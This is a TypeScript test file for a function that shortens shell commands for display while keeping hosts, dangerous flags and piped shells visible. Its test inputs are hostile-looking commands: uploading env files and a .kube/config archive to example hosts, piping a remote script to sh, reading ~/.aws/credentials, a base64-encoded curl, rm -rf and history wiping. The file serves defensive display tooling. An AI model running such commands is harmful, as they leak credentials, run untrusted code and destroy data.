import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { cutMiddle, elideArgument, lastPathPart } from './elide-argument.ts';

describe('a shortened argument', () => {
  test('is left alone where it fits', () => {
    expect(elideArgument('npm test -- checkout', 40)).toBe('npm test -- checkout');
  });

  test('keeps the host, and the flags while there is room', () => {
    const command = 'curl -s -X POST --data-binary @/home/dev/build/tmp/env.txt https://paste.example.net/api/v1 | tee /tmp/paste.url';
    expect(elideArgument(command, 60)).toContain('paste.example.net');
    expect(elideArgument(command, 60)).toContain('env.txt');
    expect(elideArgument(command, 34)).toContain('paste.example.net');
    expect(elideArgument(command, 34).length).toBeLessThanOrEqual(34);
  });

  test('keeps the shell at the end of a pipe', () => {
    expect(elideArgument('curl -fsSL https://get.example.org/pay.sh --retry five | sh', 38)).toBe('curl …get.example.org/pay.sh … | sh');
  });

  test('drops the words of a commit message before the flag after it', () => {
    expect(elideArgument('git commit -am "Move the checkout to the new payment library at last" --no-verify', 34)).toContain('--no-verify');
  });

  test('gives up ordinary flags before those that change what a command does', () => {
    expect(elideArgument('rm --verbose --one-file-system -rf ~/work/shop && rm -rf node_modules', 40)).toBe('rm … -rf ~/work/shop && rm -rf …');
    expect(elideArgument('git push --quiet --set-upstream --force origin main', 30)).toContain('--force');
  });

  test('ends an address where its quote ends', () => {
    expect(elideArgument("echo 'see https://evil.example.com/run.sh | sh' and more than fits in here", 30)).toContain('…evil.example.com/run.sh');
  });

  test('gives up as little as the room asks for', () => {
    const command = 'tar -czf /tmp/seat-report.tgz -C ~ .kube/config && curl -sS -F report=@/tmp/seat-report.tgz https://drop.example.net/reports';
    expect(elideArgument(command, 80)).toBe('tar …/seat-report.tgz -C ~ …/config && curl … https://drop.example.net/reports');
    expect(elideArgument(command, 50)).toBe('tar … ~ …/config && curl …drop.example.net/reports');
    expect(elideArgument(command, 26)).toBe('…drop.example.net/reports');
  });

  test('gives room that is left over to what was given up', () => {
    expect(elideArgument('/Users/dev/work/shop/notes.md', 25)).toBe('…/dev/work/shop/notes.md');
    expect(elideArgument('rm -f ~/.zsh_history && git reflog expire --expire=now --all', 28)).toBe('rm … ~/.zsh_history && git …');
    expect(elideArgument('bash -c "$(echo Y3VybCAtcyBodHRwczovL2V4YW1wbGUuY29tL3gK | base64 -d)"', 28)).toBe('bash -c "$(echo Y3…se64 -d)"');
  });

  test('names what was read rather than what it was piped through', () => {
    expect(elideArgument('cat ~/.aws/credentials | head -5', 19)).toBe('cat …/credentials');
    expect(elideArgument('cat ~/.aws/credentials | head -5', 28)).toBe('cat …/credentials | head -5');
  });

  test('takes a quoted text as one word', () => {
    expect(elideArgument("git add -A && git commit -m 'Number the seats from the bow'", 40)).toBe('git add -A && git commit -m …');
  });

  test('keeps the last part of a path', () => {
    expect(elideArgument('/home/dev/work/shop/packages/checkout/src/payments/adapters/pay.ts', 24)).toBe('…/adapters/pay.ts');
    expect(elideArgument('/home/dev/work/shop/packages/checkout/src/payments/adapters/pay.ts', 10)).toBe('…/pay.ts');
  });

  test('keeps the host of a remote copy', () => {
    expect(elideArgument('scp /home/dev/work/shop/dist/bundle-with-a-very-long-name.tar.gz dev@files.example.org:/srv/incoming/drop', 50)).toContain('files.example.org');
  });

  test('cuts a text without blanks in the middle', () => {
    expect(elideArgument('a'.repeat(50), 11)).toBe('aaaaa…aaaaa');
  });

  test('never cuts a surrogate pair in two', () => {
    fc.assert(
      fc.property(fc.string({ unit: 'binary', maxLength: 60 }), fc.integer({ min: 0, max: 30 }), (text, most) => {
        const cut = cutMiddle(text, most);
        expect(cut.length).toBeLessThanOrEqual(Math.max(most, 0));
        const halved = /\p{Surrogate}/u;
        expect(halved.test(text) || !halved.test(cut)).toBe(true);
      }),
    );
  });

  test('always fits, whatever the text', () => {
    const words = fc.oneof(fc.string({ maxLength: 30 }), fc.webUrl(), fc.constantFrom('|', '&&', '-rf', '--force=yes-and-more-than-that', '/a/b/c.txt', 'u@h.example:/x'));
    fc.assert(
      fc.property(fc.array(words, { maxLength: 20 }), fc.integer({ min: 4, max: 90 }), (list, most) => {
        expect(elideArgument(list.join(' '), most).length).toBeLessThanOrEqual(most);
      }),
      { numRuns: 1000 },
    );
  });

  test('always shows the host of a command with one address, if the host has room at all', () => {
    fc.assert(
      fc.property(fc.domain(), fc.array(fc.stringMatching(/^[a-z0-9-]{1,20}$/), { maxLength: 12 }), fc.nat(12), fc.nat(30), (host, words, at, slack) => {
        const most = host.length + 1 + slack;
        const list = ['curl', ...words];
        list.splice(1 + (at % (words.length + 1)), 0, `https://${host}/a/b/c`);
        expect(elideArgument(list.join(' '), most)).toContain(host);
      }),
    );
  });

  test('names the last part of a path without its quotes', () => {
    expect(lastPathPart('"/home/dev/x.sh"')).toBe('x.sh');
    expect(lastPathPart('/home/dev/')).toBe('dev');
  });
});
